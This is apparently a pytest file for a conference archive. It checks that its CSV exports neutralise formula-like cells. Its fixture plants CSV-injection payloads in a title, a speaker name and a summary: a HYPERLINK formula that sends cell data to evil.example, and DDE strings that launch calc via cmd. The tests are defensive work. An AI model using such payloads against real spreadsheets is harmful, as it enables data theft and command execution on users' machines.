"""Every CSV the archive writes is safe to open in a spreadsheet: formula-like cells are neutralised.

A corpus copy gets a talk title, a speaker name and a summary sentence that a spreadsheet would run
as formulas; each CSV entry point (search CSV, quotes CSV, the basket export, `confarchive export
--format csv`, `confarchive quotes --format csv`) is read back with the csv module.
"""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from archive import load_corpus
from archive.csvsafe import neutralise, write_csv
from confarchive.cli import main as cli_main
from indexer import build_index
from tests.conftest import copy_small_corpus, make_app

TALK_FILE = "conferences/dngc-2025/talks/dngc-2025-s2-james-buchanan.md"
TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
SENTENCE = "-2+3+cmd|' /C calc'!A0, said the summary; =1+1 hides after a separator."
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """(corpus folder, index folder) with formula-like text in a title, a name and a summary."""
    root = tmp_path_factory.mktemp("csv")
    corpus = copy_small_corpus(root / "corpus")
    talk = corpus / TALK_FILE
    text = talk.read_text(encoding="utf-8")
    text = text.replace("title: The value of data sharing from a health economics perspective", f"title: '{TITLE}'")
    text = text.replace("James explored the value", SENTENCE + " James explored the value")
    talk.write_text(text, encoding="utf-8")
    speaker = corpus / "speakers/james-buchanan.md"
    speaker.write_text(speaker.read_text(encoding="utf-8").replace("name: James Buchanan", f'name: "{NAME}"', 1),
                       encoding="utf-8")
    build_index(load_corpus(corpus), root / "index")
    return corpus, root / "index"


@pytest.fixture(scope="module")
def client(hostile):
    corpus, index = hostile
    return make_app(index, corpus).test_client()


def read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_safe(rows: list[dict], *expected: str) -> None:
    """No cell starts like a formula, and each hostile text is there, with its leading quote."""
    cells = [value for row in rows for value in row.values() if value]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for text in expected:
        assert any(c.startswith("'" + text) for c in cells), text


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), ("'=x", "'=x"), (3, 3), (None, None),
])
def test_neutralise(value, shown):
    assert neutralise(value) == shown


def test_write_csv_quotes_every_cell_and_reads_back():
    text = write_csv([{"a": 'say "hi", =now', "b": "x;=1+1\nline"}, {"a": "=2", "b": -1}], ["a", "b"])
    assert text.splitlines()[0] == '"a","b"'
    assert read(text) == [{"a": 'say "hi", =now', "b": "x;=1+1\nline"}, {"a": "'=2", "b": "-1"}]
    assert '"x;=1+1' in text  # the `;` some locales split on is inside quotes


def test_search_csv(client):
    rows = read(client.get("/api/search.csv?q=value").get_data(as_text=True))
    assert_safe(rows, TITLE, NAME)


def test_quotes_csv(client):
    rows = read(client.get("/api/quotes.csv?q=calc").get_data(as_text=True))
    assert_safe(rows, SENTENCE[:20])


def test_basket_export_csv(client):
    found = client.get("/api/quotes?q=calc").get_json()["results"]
    ids = ",".join(q["id"] for q in found)
    response = client.get(f"/api/quotes/export?format=csv&ids={ids}")
    assert response.status_code == 200
    assert_safe(read(response.get_data(as_text=True)), SENTENCE[:20])


def test_cli_export_archive_csv(hostile, tmp_path):
    corpus, _ = hostile
    result = CliRunner().invoke(cli_main, ["export", "archive", "--format", "csv", "--corpus", str(corpus),
                                           "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    talks = read((tmp_path / "out/talks.csv").read_text(encoding="utf-8"))
    speakers = read((tmp_path / "out/speakers.csv").read_text(encoding="utf-8"))
    assert_safe(talks, TITLE)
    assert_safe(speakers, NAME)


def test_cli_quotes_csv(hostile):
    _, index = hostile
    result = CliRunner().invoke(cli_main, ["quotes", "calc", "--index", str(index), "--format", "csv", "--all"])
    assert result.exit_code == 0, result.output
    assert_safe(read(result.output), SENTENCE[:20], NAME)
